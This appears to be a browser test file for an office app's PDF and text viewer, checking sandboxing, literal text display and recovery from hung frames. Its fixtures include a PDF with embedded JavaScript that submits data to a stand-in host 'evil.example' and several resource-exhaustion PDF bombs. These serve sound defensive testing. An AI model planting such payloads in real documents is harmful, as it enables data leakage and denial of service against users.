import { afterAll, beforeAll, describe, expect, test } from 'vitest';

import type { Page } from 'playwright-core';

import { packedPdf, pdf, pdfOf } from '../fixtures/pdf.ts';
import { type Desk, desk, hasChromium, shoot, signIn, violations } from './browser.ts';
import { answer, file } from './office.ts';
import { payloads } from './payloads.ts';

const evil =
  '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\("https://evil.example"\\)) >> ' +
  '/AA << /WC << /S /URI /URI (https://evil.example) >> >>';

const ascii = (text: string) => new TextEncoder().encode(text);

/** Small files that ask for much: a picture of 30,000 × 30,000, four million strokes, and brackets without an end. */
const bombs = [
  packedPdf({ side: 30_000, image: 30_000, content: ascii('30000 0 0 30000 0 0 cm /I Do') }),
  packedPdf({ content: ascii('0 0 m 500 500 l S '.repeat(4_000_000)) }),
  pdfOf([`<< /Type /Catalog /Pages ${'['.repeat(400_000)} >>`]),
];

describe.skipIf(!hasChromium)('looking at files', { timeout: 120_000 }, () => {
  let room: Desk;
  beforeAll(async () => {
    room = await desk();
    const mime = 'application/pdf';
    const extension = '.pdf';
    await file(room.office, {
      answers: [answer('recall', 'Не болды?', 'Файлдар')],
      files: [
        { bytes: pdf(['First words', 'Second words'], evil), mime, extension, cleaned: false },
        { bytes: new TextEncoder().encode('%PDF-1.4 nothing'), mime, extension, cleaned: false },
        {
          bytes: Uint8Array.from([0xcf, 0xf0, 0xe8, 0xe2, 0xe5, 0xf2, 0x0a]),
          mime: 'text/plain',
          extension: '.txt',
          cleaned: false,
        },
        { bytes: pdf(['x']), mime: 'application/zip', extension: '.zip', cleaned: false },
        {
          bytes: new TextEncoder().encode(payloads.join('\n')),
          mime: 'text/plain',
          extension: '.txt',
          cleaned: false,
        },
        ...bombs.map((bytes) => ({ bytes, mime, extension, cleaned: false })),
      ],
    });
  });
  afterAll(async () => await room[Symbol.asyncDispose]());

  async function open(page: Page) {
    await signIn(room, page, 'officer');
    await page.getByRole('link', { name: 'Файлдар' }).click();
    await page.getByText('Files of this kind are not opened here').waitFor();
  }

  test('draws a PDF in its frame, runs nothing of it, and shows texts as they were written', async () => {
    const { page, context, alarms } = await room.page({ viewport: { width: 1280, height: 900 } });
    await open(page);
    await expect.poll(() => page.frames().length).toBe(1);
    await look(page, 1);
    await page.getByText('Page 1 of 2').waitFor();
    const frame = page.frames()[1];
    expect(
      await frame?.evaluate(() => [self.origin, document.querySelectorAll('canvas').length]),
    ).toEqual(['null', 1]);
    const dark = () =>
      frame?.evaluate(() => {
        const canvas = document.querySelector('canvas');
        const { data } = canvas
          ?.getContext('2d')
          ?.getImageData(0, 0, canvas.width, canvas.height) ?? { data: [] };
        return [...data].filter((value, at) => at % 4 === 0 && value < 100).length;
      });
    expect(await dark()).toBeGreaterThan(100);
    await page.getByText('Text of the page').click();
    await page.getByText('First words').waitFor();
    await shoot(page, 'en-pdf-1280');
    expect(await violations(page)).toEqual([]);
    await page.getByRole('button', { name: 'Next page' }).click();
    await page.getByText('Page 2 of 2').waitFor();
    await page.getByText('Second words').waitFor();
    await page.getByRole('button', { name: 'Close' }).click();
    await expect.poll(() => page.frames().length).toBe(1);

    await look(page, 2);
    await page.getByText('The file is damaged or no PDF').waitFor();
    await expect.poll(() => page.frames().length).toBe(1);
    await page.getByRole('button', { name: 'Close' }).click();

    await page.setViewportSize({ width: 360, height: 740 });
    await look(page, 3);
    await page.locator('.text-view').getByText('Привет').waitFor();
    await shoot(page, 'en-text-360');
    expect(await violations(page)).toEqual([]);
    await page.getByRole('button', { name: 'Close' }).click();
    expect(await page.getByRole('button', { name: 'Look at it File 4' }).count()).toBe(0);
    await look(page, 5);
    const more = page.getByRole('button', { name: /Show more/ });
    await page.locator('.text-view div').first().waitFor();
    while ((await more.count()) > 0) await more.click();
    expect(
      await page
        .locator('.text-view div')
        .allTextContents()
        .then((all) => all.join('')),
    ).toBe(payloads.join('\n'));
    expect(alarms).toEqual([]);
    await context.close();
  });

  test('outlives files that ask for more than there is, and goes on with the next', async () => {
    const { page, context, alarms } = await room.page();
    await open(page);
    for (const number of bombs.keys()) {
      await look(page, 6 + number);
      // Drawn as far as it goes, or given up: never a viewer that keeps the officer waiting.
      await page
        .getByText(/Page 1 of 1|The file is damaged|brought the viewer to a stop/)
        .waitFor();
      await page.getByRole('button', { name: 'Close' }).click();
      await expect.poll(() => page.frames().length).toBe(1);
    }
    // The case is there, and a sound file is shown as before.
    await look(page, 1);
    await page.getByText('Page 1 of 2').waitFor();
    expect(alarms).toEqual([]);
    await context.close();
  });

  test('closes a frame that hangs or says what our code would not', async () => {
    const { page, context } = await room.page();
    // Twenty seconds of patience pass as one.
    await page.addInitScript(() => {
      const real = window.setTimeout.bind(window);
      Object.assign(window, { setTimeout: (run: () => void, ms = 0) => real(run, ms / 20) });
    });
    await open(page);
    const frames = {
      'The file brought the viewer to a stop': 'for (;;);',
      'The viewer behaved as it should not':
        "addEventListener('message', ({ ports }) => ports[0].postMessage({ kind: 'ready', url: 'x' }))",
    };
    for (const [words, script] of Object.entries(frames)) {
      await page.route('**/pdf-frame', async (route) => {
        const headers = {
          'content-type': 'text/html',
          'cross-origin-embedder-policy': 'require-corp',
          'cross-origin-resource-policy': 'same-origin',
        };
        await route.fulfill({
          headers,
          body: `<script>onload = () => setTimeout(() => { ${script} })</script>`,
        });
      });
      await look(page, 1);
      await page.getByText(words).waitFor();
      await expect.poll(() => page.frames().length).toBe(1);
      await page.getByRole('button', { name: 'Close' }).click();
      await page.unrouteAll();
    }
    await context.close();
  });
});

async function look(page: Page, number: number): Promise<void> {
  await page.getByRole('button', { name: `Look at it File ${number}` }).click();
}
